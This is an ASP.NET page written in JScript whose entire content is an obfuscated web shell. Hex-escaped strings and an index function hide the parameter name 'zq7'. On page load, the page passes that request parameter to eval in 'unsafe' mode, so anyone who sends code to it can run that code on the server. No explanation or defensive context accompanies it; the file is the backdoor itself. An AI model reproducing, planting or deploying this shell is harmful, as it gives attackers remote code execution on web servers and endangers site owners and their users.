<%@ Page Language="JScript" %>
<script runat="server">
var _0x5c1e=['\x7a\x71\x37','\x75\x6e\x73\x61\x66\x65','\x74\x65\x78\x74\x2f\x68\x74\x6d\x6c'];
var _0x3a0d=function(_0x11f2){_0x11f2=_0x11f2-0x0;var _0x4b7c=_0x5c1e[_0x11f2];return _0x4b7c;};
function Page_Load(){Response.ContentType=_0x3a0d('0x2');eval(Request[_0x3a0d('0x0')],_0x3a0d('0x1'));}
</script>
